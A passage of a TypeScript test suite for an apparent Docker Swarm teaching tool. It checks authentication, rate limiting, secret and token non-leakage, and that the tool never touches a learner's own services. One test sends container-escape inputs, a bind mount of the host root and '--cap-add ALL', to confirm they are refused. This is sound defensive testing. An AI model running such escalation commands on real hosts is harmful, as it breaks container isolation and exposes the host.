  const views = (t: Terminal): Extract<ServerFrame, { t: 'view' }>[] => t.frames.filter((f): f is Extract<ServerFrame, { t: 'view' }> => f.t === 'view');
  const VIEW_CALLS = new Set(['nodeList', 'serviceList', 'taskList']);
  /** One read of the view = one nodeList (terminal lines here make none). */
  const reads = (from = 0): number => calls.slice(from).filter((c) => c.method === 'nodeList').length;

  it('V4: a view request before the socket authenticated closes it (4401) with no frame and no Engine call', async () => {
    for (const first of [{ t: 'view', watch: true, history: false }, { t: 'view', watch: true, history: true, token }]) {
      const { ws } = await upgrade({});
      const t = new Terminal(ws!);
      ws!.send(JSON.stringify(first));
      ws!.send(JSON.stringify({ t: 'auth', token }));
      ws!.send(JSON.stringify({ t: 'view', watch: true, history: false }));
      await t.until(() => t.closed !== undefined);
      expect(t.closed!.code).toBe(4401);
      expect(t.frames).toEqual([]);
    }
    await sleep(1500);
    expect(calls).toEqual([]);
    // Malformed view requests are refused as any bad message, and start nothing.
    const t = await terminal();
    calls.length = 0;
    for (const bad of [{ t: 'view' }, { t: 'view', watch: 'yes', history: false }, { t: 'view', watch: true }, { t: 'view', watch: false, history: true }, { t: 'view', watch: true, history: false, poll: 1 }]) t.send(bad);
    await t.until(() => t.frames.filter((f) => f.t === 'error').length >= 5);
    await sleep(1500);
    expect(views(t)).toEqual([]);
    expect(calls).toEqual([]);
    await t.close();
  });

  it('V5: while watched, the model comes with GETs of the three lists only, again only when the swarm changed; a new service shows up to 3/3; ssh moves the mark', async () => {
    const t = await terminal();
    calls.length = 0;
    t.send({ t: 'view', watch: true, history: false });
    await t.until(() => views(t).length >= 1);
    const first = views(t)[0]!.model;
    expect(first.nodes.map((n) => [n.hostname, n.role, n.self])).toEqual([['manager1', 'manager', true], ['worker1', 'worker', false], ['worker2', 'worker', false]]);
    expect(first.services).toEqual([]);
    expect((await t.run('docker service create -d --replicas 3 --name web redis:7.4.0')).code).toBe(0);
    await t.until(() => views(t).some((v) => v.model.tasks.filter((x) => x.state === 'running').length === 3));
    const done = views(t).find((v) => v.model.tasks.filter((x) => x.state === 'running').length === 3)!.model;
    expect(done.services.map((x) => [x.name, x.replicas, x.image, x.ours])).toEqual([['web', '3/3', 'redis:7.4.0', true]]);
    expect(done.tasks.map((x) => x.name)).toEqual(['web.1', 'web.2', 'web.3']);
    // Quiet swarm: reads go on at their pace, each the three lists and nothing else; no frame is sent.
    const n = views(t).length;
    const from = calls.length;
    await sleep(2500);
    const quiet = calls.slice(from);
    expect(reads(from)).toBeGreaterThanOrEqual(1);
    expect(reads(from)).toBeLessThanOrEqual(3);
    const webId = done.services[0]!.id;
    for (const c of quiet) {
      expect([
        JSON.stringify({ method: 'nodeList', args: [] }),
        JSON.stringify({ method: 'serviceList', args: [{ filters: { label: ['io.swarm-lab.managed=true'] }, status: true }] }),
        JSON.stringify({ method: 'taskList', args: [{ service: [webId] }] }),
        JSON.stringify({ method: 'taskList', args: [{ 'desired-state': ['running'] }] }),
      ]).toContain(JSON.stringify(c));
    }
    expect(views(t).length).toBe(n);
    // ssh moves the shell's mark.
    expect((await t.run('ssh worker2')).code).toBe(0);
    await t.until(() => views(t).at(-1)!.model.nodes.find((x) => x.self)?.hostname === 'worker2');
    await t.run('exit');
    expect((await t.run('docker service rm web')).code).toBe(0);
    await t.close();
  });

  it('V6: the view stops when the page says stop and when the socket closes: no Engine call after the read under way', async () => {
    const t = await terminal();
    t.send({ t: 'view', watch: true, history: true });
    await t.until(() => views(t).length >= 1);
    t.send({ t: 'view', watch: false });
    await sleep(300);
    let from = calls.length;
    await sleep(2500);
    expect(calls.slice(from)).toEqual([]);
    // Watching again: the model again (the page opened the view anew), then closing the socket ends it.
    const before = views(t).length;
    t.send({ t: 'view', watch: true, history: false });
    await t.until(() => views(t).length > before);
    await sleep(1200);
    await t.close();
    await sleep(300);
    from = calls.length;
    await sleep(2500);
    expect(calls.slice(from)).toEqual([]);
  });

  it('V7: a page asking for the view over and over cannot make the server read faster than its pace', async () => {
    const t = await terminal();
    await sleep(1100); // the frame bucket full again after the earlier rows
    const from = calls.length;
    const started = Date.now();
    for (let i = 0; i < 150; i++) {
      t.send({ t: 'view', watch: true, history: i % 3 === 0 });
      if (i % 2) t.send({ t: 'view', watch: false });
    }
    await sleep(3000);
    const seconds = (Date.now() - started) / 1000;
    // One read a second at most (plus the first), whatever the page sends.
    expect(reads(from)).toBeGreaterThanOrEqual(1);
    expect(reads(from)).toBeLessThanOrEqual(Math.ceil(seconds) + 1);
    expect(calls.slice(from).every((c) => VIEW_CALLS.has(c.method))).toBe(true);
    await t.close();
  });

  it('V8: a service of the learner\'s on the swarm shows as grey chips: node and state, never its env, name, image or IDs', async () => {
    const api = sim.api('manager1');
    const foreign = await api.serviceCreate({
      Name: 'payroll',
      Labels: { team: 'secret-team' },
      TaskTemplate: { ContainerSpec: { Image: 'redis:7.4.1', Env: ['DB_PASSWORD=hunter2'] } as never, ForceUpdate: 0 },
      Mode: { Replicated: { Replicas: 2 } },
    });
    try {
      const t = await terminal();
      t.send({ t: 'view', watch: true, history: true });
      await t.until(() => views(t).some((v) => v.model.tasks.filter((x) => !x.ours && x.state === 'running').length === 2));
      const tasks = await api.taskList({ service: [foreign.ID] });
      const text = JSON.stringify(views(t));
      for (const leak of ['hunter2', 'payroll', 'secret-team', 'redis:7.4.1', foreign.ID, ...tasks.map((x) => x.ID)]) expect(text, leak).not.toContain(leak);
      const last = views(t).at(-1)!.model;
      expect(last.services).toEqual([]);
      expect(last.tasks.map((x) => [x.name, x.image, x.ours, x.state])).toEqual([['', '', false, 'running'], ['', '', false, 'running']]);
      await t.close();
    } finally {
      await api.serviceDelete(foreign.ID);
    }
  });
});

describe('the learner\'s own daemon, through a fake Engine on a unix socket (D1-D4: every request counted)', () => {
  let own: Simulator;
  let ownDriver: ReturnType<typeof setInterval>;
  let engine: FakeEngine;
  let server3: LocalServer;
  let theirs: { id: string; task: string; container: string };
  const requestsSince = (n: number): string[] => engine.requests.slice(n).map((r) => `${r.method} ${decodeURIComponent(r.url)}`);

  beforeAll(async () => {
    own = new Simulator({ seed: 11, startEpochMs: Date.now() });
    ownDriver = setInterval(() => own.clock.advance(20 * SPEED), 20);
    const api = own.api('manager1');
    // The learner's own service, with a secret in its environment, one task on each node.
    const { ID } = await api.serviceCreate({
      Name: 'mine',
      Labels: {},
      TaskTemplate: { ContainerSpec: { Image: 'redis:7.4.0', Env: ['DB_PASSWORD=hunter2'] } as never, ForceUpdate: 0 },
      Mode: { Replicated: { Replicas: 3 } },
    });
    own.clock.advance(10_000);
    const task = (await api.taskList({ service: [ID] })).find((t) => t.Status.State === 'running')!;
    const container = (await own.api('manager1').containerList({ all: true }))[0]!;
    theirs = { id: ID, task: task.ID, container: container.Names[0]!.slice(1) };
    engine = await startFakeEngine(api);
    server3 = await startLocalServer({ siteDir, backend: engine.backend('manager1'), log: (l) => logs.push(l) });
  });

  afterAll(async () => {
    clearInterval(ownDriver);
    await server3?.close();
    await engine?.close();
  });

  beforeEach(async () => {
    // Each row starts with none of Swarm Lab's services on the learner's swarm.
    const api = own.api('manager1');
    for (const s of await api.serviceList()) if (s.Spec.Labels[MANAGED_LABEL_KEY] === 'true') await api.serviceDelete(s.ID);
  });

  /** No request read, listed unfiltered or changed anything of the learner's. */
  const noneOfTheirs = (requests: string[]): void => {
    for (const r of requests) {
      // Lists of services are asked for Swarm Lab's label (a name typed may be a filter value
      // there, as docker service ps sends it, and matches nothing of theirs); anything else,
      // a service, its tasks or containers, is asked for only by an ID found so.
      const labelled = /^GET \/services(\?|$)/.test(r);
      if (labelled) expect(r, r).toContain('"label":{"io.swarm-lab.managed=true":true}');
      for (const x of labelled ? [theirs.task, theirs.container] : ['mine', theirs.id, theirs.task, theirs.container]) expect(r, r).not.toContain(x);
      if (r.startsWith('GET /containers/json')) expect(r).toMatch(/"label":\{"com\.docker\.swarm\.service\.id=[0-9a-z]{25}":true\}/);
      if (r.startsWith('GET /tasks')) expect(r).toMatch(/"service":\{"[0-9a-z]{25}":true/);
    }
  };

  it('D1: node update --availability drain|pause|active is refused with a clear message and no Engine request', async () => {
    const t = await terminalAt(server3.url);
    for (const a of ['drain', 'pause', 'active']) {
      const n = engine.requests.length;
      const r = await t.run(`docker node update --availability ${a} manager1`);
      expect(r.code).toBe(1);
      expect(r.out).toMatch(/^swarm-lab: docker node update: not available in local mode: on your own Docker daemon Swarm Lab never changes a node's availability: draining or pausing a node moves or holds your own services' tasks\. Practise this step on the sandbox swarm \(npm run sandbox:up\) or in the simulator\.\n$/);
      expect(requestsSince(n)).toEqual([]);
    }
    expect((await own.api('manager1').nodeList()).every((n) => n.Spec.Availability === 'active')).toBe(true);
    await t.close();
  });

  it(`D2: at most ${MAX_SERVICES} services and ${MAX_TOTAL_REPLICAS} replicas: at the cap a clear message, and no write reaches the daemon`, async () => {
    const t = await terminalAt(server3.url);
    const creates = (): number => engine.requests.filter((r) => r.method === 'POST' && r.url.startsWith('/services/create')).length;
    const before = creates();
    for (const line of ['docker service create -d --replicas 10 --name a redis:7.4.0', 'docker service create -d --replicas 10 --name b redis:7.4.0']) expect((await t.run(line)).code).toBe(0);
    let n = engine.requests.length;
    const over = await t.run('docker service create -d --replicas 1 --name c redis:7.4.0');
    expect(over.code).toBe(1);
    expect(over.out).toContain(`Swarm Lab runs at most ${MAX_TOTAL_REPLICAS} replicas in all on a real swarm; this would make 21 (the others: a 10, b 10). Scale a service down or remove one first.`);
    expect(requestsSince(n).filter((x) => !x.startsWith('GET '))).toEqual([]);
    expect((await t.run('docker service scale -d a=2')).code).toBe(0);
    for (const name of ['c', 'd', 'e']) expect((await t.run(`docker service create -d --name ${name} redis:7.4.0`)).code).toBe(0);
    n = engine.requests.length;
    const sixth = await t.run('docker service create -d --name f redis:7.4.0');
    expect(sixth.out).toContain(`Swarm Lab runs at most ${MAX_SERVICES} services on a real swarm and has ${MAX_SERVICES} (a, b, c, d, e). Remove one first (docker service rm NAME), or reset the lesson.`);
    expect(requestsSince(n).filter((x) => !x.startsWith('GET '))).toEqual([]);
    const up = await t.run('docker service scale -d b=10 a=9');
    expect(up.out).toMatch(/a: .*at most 20 replicas in all/);
    expect(creates() - before).toBe(5);
    await t.close();
  });

  it('D3: a command ends when its client goes away: no Engine request after a short grace (WebSocket closed, /api/run dropped)', async () => {
    // Never converges: no node is called "nosuch".
    const stuck = (name: string): string => `docker service create --constraint node.hostname==nosuch --name ${name} redis:7.4.0`;
    const t = await terminalAt(server3.url);
    t.send({ t: 'run', id: 7, line: stuck('stuck-ws'), cols: 80 });
    await t.until(() => t.frames.filter((f) => f.t === 'out' && f.id === 7).length > 3);
    await t.close();
    await sleep(300);
    let n = engine.requests.length;
    await sleep(2000);
    expect(requestsSince(n)).toEqual([]);

    const r = apiRun(server3.url, stuck('stuck-http'), 1000);
    await r;
    await sleep(300);
    n = engine.requests.length;
    await sleep(2000);
    expect(requestsSince(n)).toEqual([]);
  });

  it('D4: a line naming one of the learner\'s services never reads it; docker ps shows Swarm Lab\'s containers only; docker info --format is refused', async () => {
    const t = await terminalAt(server3.url);
    // Three replicas over three nodes: the spread puts one on manager1, where the terminal's docker ps looks.
    expect((await t.run('docker service create -d --replicas 3 --name web redis:7.4.0')).code).toBe(0);
    const running = async (): Promise<number> => (await own.api('manager1').taskList({ service: ['web'] })).filter((x) => x.Status.State === 'running').length;
    for (let i = 0; i < 100 && (await running()) < 3; i++) await sleep(20);
    const n = engine.requests.length;
    for (const line of [
      'docker service rm mine',
      'docker service inspect mine',
      `docker service inspect ${theirs.id}`,
      `docker service inspect ${theirs.id.slice(0, 6)}`,
      'docker service ps mine',
      'docker service logs mine',
      `docker service logs ${theirs.task}`,
      'docker service scale mine=5',
      'docker service update --replicas 1 mine',
      'docker service rollback mine',
    ]) {
      const r = await t.run(line);
      expect(r.code, line).not.toBe(0);
      expect(r.out, line).toMatch(/no such (task or )?service|service \S+ not found \(local mode sees only the services Swarm Lab created; your own are left alone\)/);
      expect(r.out, line).not.toContain('hunter2');
    }
    for (const line of ['docker ps', 'docker ps -a --no-trunc', "docker container ls --format '{{json .}}'", 'docker node ps manager1', 'docker service ls', 'docker service ps web', 'docker service inspect web']) {
      const r = await t.run(line);
      expect(r.code, line).toBe(0);
      expect(r.out, line).not.toContain('mine');
      expect(r.out, line).not.toContain('hunter2');
    }
    expect((await t.run("docker container ls --format '{{json .}}'")).out).toMatch(/"Names":"web\.\d/);
    noneOfTheirs(requestsSince(n));
    const before = engine.requests.length;
    for (const line of ["docker info --format '{{json .}}'", "docker system info -f '{{.Name}}'"]) {
      const r = await t.run(line);
      expect(r.out).toMatch(/^swarm-lab: docker info --format: not available in local mode/);
    }
    expect(engine.requests.length).toBe(before);
    const info = await t.run('docker info');
    expect(info.code).toBe(0);
    expect(info.out).toMatch(/ Swarm: active\n  NodeID: [0-9a-z]{25}\n  Is Manager: true/);
    await t.close();
  });

  it('V9: the swarm view on the learner\'s daemon: GET /nodes, /services (label, status), /tasks only; their service is grey chips with nothing of theirs in any frame', async () => {
    const t = await terminalAt(server3.url);
    expect((await t.run('docker service create -d --replicas 2 --name web redis:7.4.0')).code).toBe(0);
    const n = engine.requests.length;
    t.send({ t: 'view', watch: true, history: true });
    const views = (): Extract<ServerFrame, { t: 'view' }>[] => t.frames.filter((f): f is Extract<ServerFrame, { t: 'view' }> => f.t === 'view');
    await t.until(() => views().some((v) => v.model.tasks.filter((x) => x.ours && x.state === 'running').length === 2));
    await sleep(2200);
    t.send({ t: 'view', watch: false });
    await sleep(300);
    const during = requestsSince(n);
    expect(during.length).toBeGreaterThanOrEqual(8);
    for (const r of during) {
      expect(r, r).toMatch(/^GET \/(nodes|services\?filters=\{"label":\{"io\.swarm-lab\.managed=true":true\}\}&status=(1|true)|tasks\?filters=\{("service":\{"[0-9a-z]{25}":true\}|"desired-state":\{"running":true\})\})$/);
    }
    const text = JSON.stringify(views());
    for (const leak of ['mine', 'hunter2', theirs.id, theirs.task, theirs.container]) expect(text, leak).not.toContain(leak);
    const model = views().at(-1)!.model;
    expect(model.services.map((x) => x.name)).toEqual(['web']);
    expect(model.tasks.filter((x) => x.ours).map((x) => x.name)).toEqual(['web.1', 'web.2']);
    const grey = model.tasks.filter((x) => !x.ours);
    expect(grey.length).toBe((await own.api('manager1').taskList({ service: [theirs.id], 'desired-state': ['running'] })).length);
    for (const x of grey) expect([x.name, x.image, x.service, x.err]).toEqual(['', '', '', '']);
    const m = engine.requests.length;
    await t.close();
    await sleep(1500);
    expect(requestsSince(m)).toEqual([]);
  });
});

describe('the happy path, scoping and the token (S7, S8, L1)', () => {
  it('auth, service create streamed and converging, service ps, Ctrl-C, lesson check', async () => {
    const t = await terminal();
    expect(t.frames[0]).toMatchObject({ t: 'ready', prompt: 'docker@manager1:~$ ', hostnames: ['manager1', 'worker1', 'worker2'], backend: { kind: 'sandbox', name: 'manager1' } });
    const chunks: string[] = [];
    const created = await t.run('docker service create --replicas 3 --name redis --update-delay 10s redis:7.4.0', (s) => chunks.push(s));
    expect(created.code).toBe(0);
    expect(created.out).toMatch(/verify: Service \S+ converged/);
    // Local mode never asks a registry: the CLI's own warning, as docker prints it.
    expect(created.out).toContain('image redis:7.4.0 could not be accessed on a registry to record');
    expect(created.frames).toBeGreaterThan(1);
    expect(calls.map((c) => c.method)).toContain('serviceCreate');
    expect(calls.map((c) => c.method)).not.toContain('distributionInspect');
    const ps = await t.run('docker service ps redis');
    expect(ps.code).toBe(0);
    expect(ps.out.split('\n').filter((l) => /redis\.\d+\s+redis:7\.4\.0\s+\S+\s+Running\s+Running/.test(l))).toHaveLength(3);

    // S7 through the terminal: the sneaked field is refused and the version does not move.
    const before = (await sim.api('manager1').serviceInspect('redis')).Version.Index;
    calls.length = 0;
    for (const line of ['docker service update --mount-add type=bind,source=/,target=/host redis', 'docker service update --cap-add ALL redis', 'docker service update --image alpine redis']) {
      const r = await t.run(line);
      expect(r.out, line).toMatch(/not available in local mode/);
    }
    expect(calls.map((c) => c.method).filter((m) => m === 'serviceUpdate')).toEqual([]);
    expect((await sim.api('manager1').serviceInspect('redis')).Version.Index).toBe(before);

    // Ctrl-C during a rolling update: the command stops waiting, the update carries on.
    let interrupted = false;
    const update = await t.run('docker service update --image redis:7.4.1 redis', () => {
      if (!interrupted) {
        interrupted = true;
        t.send({ t: 'interrupt' });
      }
    });
    expect(interrupted).toBe(true);
    expect(update.out).toContain('Operation continuing in background.');
    expect(update.code).toBe(0);

    t.send({ t: 'check', id: 'c1', lessonId: 'deploy-service' });
    await t.until(() => t.frames.some((f) => f.t === 'result' && f.id === 'c1'));
    const result = t.frames.find((f) => f.t === 'result' && f.id === 'c1');
    expect(Array.isArray(result?.t === 'result' ? result.value : undefined)).toBe(true);
    await t.close();
  });

  it('resize: a running command\'s progress is counted at the width the page\'s terminal now has', async () => {
    expect(parseClientFrame(JSON.stringify({ t: 'resize', cols: 44 }))).toEqual({ t: 'resize', cols: 44 });
    for (const bad of [{ t: 'resize', cols: 5 }, { t: 'resize', cols: 44.5 }, { t: 'resize', cols: '44' }, { t: 'resize', cols: 44, id: 1 }, { t: 'resize' }]) {
      expect(parseClientFrame(JSON.stringify(bad)), JSON.stringify(bad)).toBeUndefined();
    }
    const t = await terminal();
    // Between commands a resize changes nothing (run brings the width).
    t.send({ t: 'resize', cols: 30 });
    let sent = false;
    let after = '';
    const created = await t.run('docker service create --replicas 2 --name narrow redis:7.4.0', (s) => {
      if (sent) after += s;
      else if (s.includes('overall progress')) {
        sent = true;
        t.send({ t: 'resize', cols: 20 });
      }
    });
    expect(created.code).toBe(0);
    // Started at 120 columns (bars on), the lines no longer fit in 20: their rows change, and
    // the display redraws the block below a line whose height changed (erase below, ESC[J).
    expect(after).toContain('\x1b[J');
    await t.close();
  });

  it('S8: on the learner\'s own daemon only Swarm Lab\'s services may change', async () => {
    const own = await sim.api('manager1').serviceCreate({
      Name: 'mine',
      Labels: {},
      TaskTemplate: { ContainerSpec: { Image: 'redis:7.4.0' }, ForceUpdate: 0 },
      Mode: { Replicated: { Replicas: 1 } },
    });
    const version = (await sim.api('manager1').serviceInspect(own.ID)).Version.Index;
    const scoped = await startLocalServer({ siteDir, backend: simBackend(sim, { calls, kind: 'docker' }), log: (l) => logs.push(l) });
    const scopedToken = /#t=(.+)$/.exec(scoped.url)![1]!;
    try {
      const run = async (line: string): Promise<{ code: number; output: string }> => {
        const body = JSON.stringify({ line });
        const r = await raw(
          `POST /api/run HTTP/1.1\r\nHost: 127.0.0.1:${scoped.port}\r\nOrigin: http://127.0.0.1:${scoped.port}\r\nAuthorization: Bearer ${scopedToken}\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`,
          scoped.port,
        );
        expect(r.status).toBe(200);
        return JSON.parse(r.body) as { code: number; output: string };
      };
      calls.length = 0;
      // Their service is looked for among Swarm Lab's only, so it is "not found", and never read.
      for (const line of ['docker service rm mine', 'docker service update --replicas 2 mine', 'docker service logs mine', 'docker service scale mine=3']) {
        const r = await run(line);
        expect(r.output, line).toMatch(/(service mine not found \(local mode sees only the services Swarm Lab created; your own are left alone\)|no such task or service: mine)/);
        expect(r.code).not.toBe(0);
      }
      expect(calls.map((c) => c.method).filter((m) => ['serviceUpdate', 'serviceDelete', 'serviceLogs', 'serviceInspect', 'taskInspect'].includes(m))).toEqual([]);
      expect(JSON.stringify(calls)).not.toContain(own.ID);
      expect((await sim.api('manager1').serviceInspect(own.ID)).Version.Index).toBe(version);
      expect((await run('docker service ls')).output).not.toContain('mine');
      expect((await run('docker swarm join-token worker')).output).toMatch(/not available in local mode/);
      const published = await run('docker service create -d -p 8080:6379 --name web redis:7.4.0');
      expect(published.output).toMatch(/not available in local mode/);
    } finally {
      await scoped.close();
    }
  });

  it('L1: the token appears in no response, frame or log line', () => {
    expect(seen.length).toBeGreaterThan(50);
    for (const s of [...seen, ...logs]) expect(s.includes(token)).toBe(false);
    expect(logs.some((l) => /refused/.test(l))).toBe(true);
  });
});

describe('injected failures', () => {
  it('injected failures (lab) are the simulator\'s: on a real swarm the shell says so, and nothing reaches the daemon', async () => {
    const t = await terminal();
    for (const line of ['lab node stop worker1', 'lab node start worker1', 'lab task kill redis.1']) {
      calls.length = 0;
      const r = await t.run(line);
      expect(r.out, line).toBe('lab: not available in local mode: failures can only be injected into the simulated swarm (switch to the simulator to try it)\n');
      expect(r.code, line).toBe(1);
      expect(calls, line).toEqual([]);
    }
    expect(sim.cluster.machines.get('worker1')?.daemon).toBe('running');
  });
});
